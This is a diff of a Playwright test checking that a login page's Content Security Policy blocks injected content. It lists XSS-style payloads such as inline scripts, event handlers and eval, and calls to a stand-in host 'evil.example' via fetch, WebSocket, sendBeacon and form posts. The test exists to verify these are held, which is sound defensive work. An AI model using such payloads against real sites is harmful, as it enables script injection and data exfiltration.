@@ -1,17 +1,198 @@
-import { readFileSync } from 'node:fs'
-import { resolve } from 'node:path'
-import type { Page } from '@playwright/test'
+import { expect, test, type Page } from '@playwright/test'
 import { headerRules, headersFor, policyOf, policyText } from '@/build/headers'
-import { expect, test } from '../../e2e/support/app'
+import { paths } from '@/paths'
 import { NGINX_URL } from '../../e2e/playwright.config'
-import { test as bare } from '@playwright/test'
 
 /**
- * The built page with something put into it, under the policy that nginx sends: nothing of it runs,
- * loads or leaves, and the browser tells of each.
+ * The page as nginx sends it with something put into it: nothing of that runs, loads or leaves, and
+ * the browser reports each.
  */
 
-const html = readFileSync(resolve(import.meta.dirname, '../../../dist/index.html'), 'utf8')
-/** The hosts that a live build names; without them any https host may send pictures. */
-const HOSTS = { VITE_MEDIA_HOSTS: 'cdn.example', VITE_SERVICE_HOSTS: 'chat.example', VITE_API_BASE_URL: '/api' }
 const EVIL = 'https://evil.example'
+/** As a live build names its hosts; where it names none, any https host may be one of them. */
+const HOSTS = { VITE_MEDIA_HOSTS: 'cdn.example', VITE_SERVICE_HOSTS: 'chat.example' }
+
+interface Held {
+  directive: string
+  /** What the browser names as held: an address, or a kind. */
+  blocked: string
+}
+
+interface Attempt extends Held {
+  name: string
+  /** Held by the policy of any build, whatever hosts its settings name. */
+  always: boolean
+}
+
+const inMarkup = (html: string, directive: string, blocked: string, always = true) => ({
+  name: html,
+  directive,
+  blocked,
+  always,
+})
+
+const MARKUP: readonly Attempt[] = [
+  inMarkup(`<script>ran.push('script')</script>`, 'script-src-elem', 'inline'),
+  inMarkup(`<svg><script>ran.push('svg')</script></svg>`, 'script-src-elem', 'inline'),
+  inMarkup(`<img src="/gone.png" onerror="ran.push('handler')">`, 'script-src-attr', 'inline'),
+  inMarkup(`<script src="${EVIL}/a.js"></script>`, 'script-src-elem', `${EVIL}/a.js`),
+  inMarkup(`<script type="module" src="${EVIL}/b.js"></script>`, 'script-src-elem', `${EVIL}/b.js`),
+  inMarkup(`<script src="data:text/javascript,ran.push('data')"></script>`, 'script-src-elem', 'data'),
+  inMarkup(`<link rel="preload" as="script" href="${EVIL}/c.js">`, 'script-src-elem', `${EVIL}/c.js`),
+  inMarkup(`<style>body { --evil: 1 }</style>`, 'style-src-elem', 'inline'),
+  inMarkup(`<p style="--evil: 1">styled</p>`, 'style-src-attr', 'inline'),
+  inMarkup(`<link rel="stylesheet" href="${EVIL}/a.css">`, 'style-src-elem', `${EVIL}/a.css`),
+  inMarkup(`<object data="${EVIL}/o.svg"></object>`, 'object-src', EVIL),
+  inMarkup(`<embed src="${EVIL}/e.svg">`, 'object-src', EVIL),
+  inMarkup(`<base href="${EVIL}/">`, 'base-uri', `${EVIL}/`),
+  inMarkup(`<iframe src="data:text/html,<script>top.ran.push(1)</script>"></iframe>`, 'frame-src', ''),
+  inMarkup(`<iframe src="${EVIL}/frame"></iframe>`, 'frame-src', EVIL, false),
+  inMarkup(`<img src="${EVIL}/i.png">`, 'img-src', `${EVIL}/i.png`, false),
+  inMarkup(`<img src="http://evil.example/i.png">`, 'img-src', 'http://evil.example/i.png'),
+  inMarkup(`<video src="${EVIL}/v.mp4"></video>`, 'media-src', `${EVIL}/v.mp4`, false),
+]
+
+const SINK = 'trusted-types-sink'
+const inCode = (name: string, directive: string, blocked: string, always = true) => ({
+  name,
+  directive,
+  blocked,
+  always,
+})
+const unsafe = (code: string) => inCode(code, 'require-trusted-types-for', SINK)
+
+/** By code that runs already, as an injected one would go on: each line is one function's body. */
+const CODE: readonly Attempt[] = [
+  inCode(`fetch('${EVIL}/fetch').catch(() => 0)`, 'connect-src', `${EVIL}/fetch`, false),
+  inCode(`fetch('http://evil.example/').catch(() => 0)`, 'connect-src', 'http://evil.example/'),
+  inCode(`new WebSocket('wss://evil.example/socket')`, 'connect-src', 'wss://evil.example/socket'),
+  inCode(`navigator.sendBeacon('${EVIL}/beacon', 'x')`, 'connect-src', `${EVIL}/beacon`, false),
+  inCode(`new EventSource('${EVIL}/events')`, 'connect-src', `${EVIL}/events`, false),
+  inCode(`new Image().src = '${EVIL}/pixel'`, 'img-src', `${EVIL}/pixel`, false),
+  inCode(`new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='`, 'img-src', 'data'),
+  inCode(`new FontFace('x', 'url(${EVIL}/f.woff2)').load().catch(() => 0)`, 'font-src', `${EVIL}/f.woff2`),
+  inCode(`new Worker(URL.createObjectURL(new Blob(['ran.push(1)'])))`, 'worker-src', 'blob'),
+  inCode(`import('${EVIL}/m.js').catch(() => 0)`, 'script-src-elem', `${EVIL}/m.js`),
+  inCode(`document.body.setAttribute('style', '--evil: 1')`, 'style-src-attr', 'inline'),
+  inCode(
+    `Object.assign(make('form'), { action: '${EVIL}/form', method: 'post' }).submit()`,
+    'form-action',
+    `${EVIL}/form`,
+  ),
+  inCode(`trustedTypes.createPolicy('mine', {})`, 'trusted-types', 'trusted-types-policy'),
+  unsafe(`make('div').innerHTML = '<b>x</b>'`),
+  unsafe(`make('div').outerHTML = '<b>x</b>'`),
+  unsafe(`make('div').insertAdjacentHTML('beforeend', '<b>x</b>')`),
+  unsafe(`make('iframe').srcdoc = '<script>top.ran.push(1)</' + 'script>'`),
+  unsafe(`document.write('<b>x</b>')`),
+  unsafe(`new DOMParser().parseFromString('<b>x</b>', 'text/html')`),
+  unsafe(`document.createRange().createContextualFragment('<b>x</b>')`),
+  unsafe(`eval('ran.push("eval")')`),
+  unsafe(`new Function('ran.push("function")')()`),
+  unsafe(`setTimeout('ran.push("timeout")')`),
+  unsafe(`make('script').src = '${EVIL}/s.js'`),
+  unsafe(`make('script').text = 'ran.push("text")'`),
+  unsafe(`new Worker('${EVIL}/w.js')`),
+  unsafe(`navigator.serviceWorker.register('${EVIL}/sw.js').catch(() => 0)`),
+  unsafe(`make('button').setAttribute('onclick', 'ran.push("attribute")')`),
+  inCode(`Object.assign(make('a'), { href: 'javascript:ran.push("link")' }).click()`, 'script-src-elem', 'inline'),
+]
+
+declare global {
+  var ran: string[]
+  var held: Held[]
+  var make: (tag: string) => HTMLElement
+}
+
+type Settings = Readonly<Record<string, string>>
+
+const META = /(http-equiv="Content-Security-Policy" content=")[^"]*/
+
+/** Opens Log-in with markup in it, by the policy of nginx or of the same build with `settings`. */
+async function openWith(page: Page, markup: string, settings: Settings | null): Promise<string[]> {
+  const left: string[] = []
+  await page.route(/^(?:https|http:\/\/evil)/, (route) => {
+    left.push(route.request().url())
+    return route.fulfill({ body: `ran.push('from afar')`, contentType: 'text/javascript' })
+  })
+  await page.addInitScript(() => {
+    localStorage.setItem('lang', 'en_us')
+    globalThis.ran = []
+    globalThis.held = []
+    globalThis.make = (tag) => document.body.appendChild(document.createElement(tag))
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, disposition }) => {
+      if (disposition === 'enforce') held.push({ directive: effectiveDirective, blocked: blockedURI })
+    })
+  })
+  await page.route(`${NGINX_URL}${paths.login()}`, async (route) => {
+    const response = await route.fetch()
+    const html = await response.text()
+    // Unpacked here, and of another length.
+    const { 'content-encoding': _encoding, 'content-length': _length, ...sent } = response.headers()
+    const headers = settings === null ? sent : { ...sent, 'content-security-policy': policyHeader(html, settings) }
+    const body =
+      settings === null ? html : html.replace(META, (_all, start: string) => start + ownPolicy(html, settings))
+    return route.fulfill({ response, headers, body: body.replace('</body>', () => `${markup}</body>`) })
+  })
+  await page.goto(`${NGINX_URL}${paths.login()}`)
+  await expect(page.getByRole('heading', { level: 1, name: 'Log in' })).toBeVisible()
+  await page.waitForFunction(() => performance.getEntriesByName('interactive').length > 0)
+  return left
+}
+
+function policyHeader(html: string, settings: Settings): string {
+  return headersFor('/', headerRules(html, settings))['Content-Security-Policy'] ?? ''
+}
+
+function ownPolicy(html: string, settings: Settings): string {
+  return policyText(policyOf(html, settings))
+}
+
+const bySettings = [
+  ['the policy that nginx sends', null],
+  ['the policy of a build that names its hosts', HOSTS],
+] as const
+
+test.use({ contextOptions: { reducedMotion: 'reduce' } })
+
+for (const [policy, settings] of bySettings) {
+  const tried = (attempts: readonly Attempt[]) => attempts.filter(({ always }) => always || settings !== null)
+
+  test(`what is put into the page is held by ${policy}, and the app stands`, async ({ page }) => {
+    const attempts = tried(MARKUP)
+    const left = await openWith(page, attempts.map(({ name }) => name).join('\n'), settings)
+    const expected = attempts.map(({ directive, blocked }) => `${directive} ${blocked}`).sort()
+    // A policy in the page and one in the header report the same thing twice; nothing else is reported.
+    const reported = async () => {
+      const held = await page.evaluate(() => globalThis.held)
+      return held.map(({ directive, blocked }) => `${directive} ${blocked}`).sort()
+    }
+    await expect.poll(async () => [...new Set(await reported())]).toEqual([...new Set(expected)])
+    expect(await reported()).toEqual(expected.flatMap((each) => [each, each]))
+    expect(await page.evaluate(() => [...ran, getComputedStyle(document.body).getPropertyValue('--evil')])).toEqual([
+      '',
+    ])
+    expect(left).toEqual([])
+    await page.getByLabel('Username').fill('wulan_r')
+    await expect(page.getByLabel('Username')).toHaveValue('wulan_r')
+  })
+
+  test(`what injected code would do next is held by ${policy}`, async ({ page }) => {
+    const left = await openWith(page, '', settings)
+    expect(await page.evaluate(() => held)).toEqual([])
+    for (const { name, directive, blocked } of tried(CODE))
+      await test.step(name, async () => {
+        await page.evaluate(() => (held.length = 0))
+        // In a task of the page: what the debugger runs may do more.
+        await page.evaluate(`setTimeout(() => { ${name} })`)
+        await expect
+          .poll(() => page.evaluate(() => held.map((each) => `${each.directive} ${each.blocked}`)))
+          .toContain(`${directive} ${blocked}`)
+      })
+    expect(await page.evaluate(() => [...ran, getComputedStyle(document.body).getPropertyValue('--evil')])).toEqual([
+      '',
+    ])
+    expect(left).toEqual([])
+    expect(await page.evaluate(() => location.pathname)).toBe(paths.login())
+  })
+}
